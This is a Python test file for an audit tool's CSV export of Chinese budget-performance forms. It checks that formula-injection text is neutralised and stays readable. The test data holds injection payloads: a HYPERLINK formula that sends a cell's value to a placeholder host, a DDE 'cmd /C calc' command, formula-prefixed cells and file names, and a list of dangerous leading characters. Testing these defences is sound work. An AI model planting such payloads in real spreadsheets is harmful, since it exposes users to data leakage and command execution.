"""Text that is meant to do something, in the cells of a form and in names: what the outputs make of it."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
from pathlib import Path
from tempfile import mkdtemp

import pandas
import pytest

from audit.exports import csv as tables
from tests.commanded import Run, commanded
from tests.drawn import drawn
from tests.hostile_form import form
from tests.hostile_raw import ACCUSED, PASSED, fixture

LINK = '=HYPERLINK("http://x/?"&A1)'
COMMAND = "+cmd|' /C calc'!A0"
QUOTED = '引"号，逗,号；'
WIDE = "＝1+1"
AT = "@SUM(1+1)"
DANGEROUS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r")
ROWS = [
    ["项目名称", "", LINK, "", "", "", "", ""],
    ["主管部门", "", COMMAND, "", "实施单位", QUOTED, "", ""],
    ["项目资金", "", "年初预算数", "全年预算数", "全年执行数", "分值", "执行率", "得分"],
    ["（万元）", "年度资金总额", "100", "100", "50", "10", "90%", "10"],
    ["一级指标", "二级指标", "三级指标", "年度指标值", "实际完成值", "分值", "得分", "偏差原因"],
    ["产出指标", "数量指标", WIDE, "≥10个", "5个", "50", "50", ""],
    ["产出指标", "质量指标", AT, "≥95%", "-3+9%", "20", "-2", WIDE],
    ["效益指标", "社会效益指标", "=1+1", "≥90%", "50%", "20", "20", ""],
    ["总分", "", "", "", "", "100", "99", ""],
]


@pytest.fixture(scope="module")
def audited() -> tuple[Path, Run]:
    """The folder that was audited (gone by now), and the run."""
    folder = Path(mkdtemp(prefix="meant-"))
    try:
        drawn(folder / "=1+1.pdf", form(ROWS))
        shutil.copy(fixture(ACCUSED), folder / '@SUM(A1),".pdf')
        shutil.copy(fixture(PASSED), folder / "-2+3\n.pdf")
        (folder / "+1.pdf").write_bytes(b"")
        return folder, commanded(folder)
    finally:
        shutil.rmtree(folder)


@pytest.fixture(scope="module")
def run(audited: tuple[Path, Run]) -> Run:
    return audited[1]


def cells(run: Run) -> list[tuple[str, str]]:
    return [pair for row in (*run.forms, *run.discrepancies) for pair in row.items()]


def test_the_form_was_read_with_its_odd_texts(run: Run) -> None:
    (record,) = [record for record in run.records if record["file"] == "=1+1.pdf"]
    assert record["project_name"]["text"] == LINK
    assert record["department"]["text"] == COMMAND
    assert record["implementing_unit"]["text"] == QUOTED
    assert [row["level3"]["text"] for row in record["indicators"]] == [WIDE, AT, "=1+1"]
    assert len(run.findings("'=1+1.pdf")) >= 3


def test_no_cell_is_a_formula(run: Run) -> None:
    for heading, text in cells(run):
        figure = text.lstrip("-+").replace(".", "", 1).rstrip("%").replace(",", "").isdigit()
        assert figure or not text.lstrip().startswith(DANGEROUS), f"{heading}: {text}"


def test_texts_are_defused_and_stay_readable(run: Run) -> None:
    row = run.form("'=1+1.pdf")
    assert (row["项目名称"], row["主管部门"], row["实施单位"]) == (f"'{LINK}", f"'{COMMAND}", QUOTED)
    assert {row["文件"] for row in run.forms} == {"'=1+1.pdf", "'@SUM(A1),\".pdf", "'-2+3\\n.pdf", "'+1.pdf"}


def test_negative_figures_stay_figures(run: Run) -> None:
    claims = {row["填报值"] for row in run.findings("'=1+1.pdf") if row["字段"] == "indicators[1].score"}
    assert claims == {"-2"}
    assert any(row["差额"].startswith("-") for row in run.discrepancies)


def table(run: Run) -> bytes:
    rows = [list(row.values()) for row in run.discrepancies]
    rows.append([f'{text}\n"{text}",\r\nz' for text in rows[0]])
    headings = list(run.discrepancies[0])
    return tables.head(headings) + tables.lines(headings, rows)


def test_pandas_reads_the_table_as_it_was_written(run: Run) -> None:
    written = list(csv.DictReader(io.StringIO(table(run).decode("utf-8-sig"), newline="")))
    frame = pandas.read_csv(io.BytesIO(table(run)), dtype=str, keep_default_na=False)
    assert frame.to_dict("records") == written


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_a_spreadsheet_shows_the_texts_and_computes_nothing(run: Run, tmp_path: Path) -> None:
    (tmp_path / "table.csv").write_bytes(table(run))
    (tmp_path / "out").mkdir()
    filters = ("csv:Text - txt - csv (StarCalc):44,34,76,1", "--infilter=CSV:44,34,76,1")
    subprocess.run(
        ["soffice", f"-env:UserInstallation={(tmp_path / 'user').as_uri()}", "--headless", "--convert-to", filters[0],
         filters[1], "--outdir", tmp_path / "out", tmp_path / "table.csv"],
        check=True, capture_output=True, timeout=120, env={**os.environ, "HOME": str(tmp_path)},
    )  # fmt: skip
    shown = (tmp_path / "out" / "table.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(shown, newline="")))
    written = list(csv.DictReader(io.StringIO(table(run).decode("utf-8-sig"), newline="")))
    for heading in ("文件", "项目名称", "主管部门", "实施单位", "说明"):
        assert [row[heading] for row in rows] == [row[heading] for row in written]


def test_no_path_of_this_machine_is_told(audited: tuple[Path, Run]) -> None:
    folder, run = audited
    told = json.dumps([run.forms, run.discrepancies, run.records], ensure_ascii=False)
    for path in (str(folder), str(Path.home()), "Traceback", os.sep + "tests" + os.sep):
        assert path not in told


def test_every_figure_has_its_page_and_box(run: Run) -> None:
    for record in run.records:
        fields = [value for value in record.values() if isinstance(value, dict)]
        fields += [cell for rows in ("funds", "indicators") for row in record[rows] for cell in row.values() if cell]
        printed = [each for each in fields if each["text"]]
        assert printed
        for each in printed:
            assert each["boxes"], each
            for place in each["boxes"]:
                x0, top, x1, bottom = place["bbox"]
                assert place["page"] in record["pages"] and x0 < x1 and top < bottom
    for row in run.discrepancies:
        assert row["页码"] or not row["表序"]
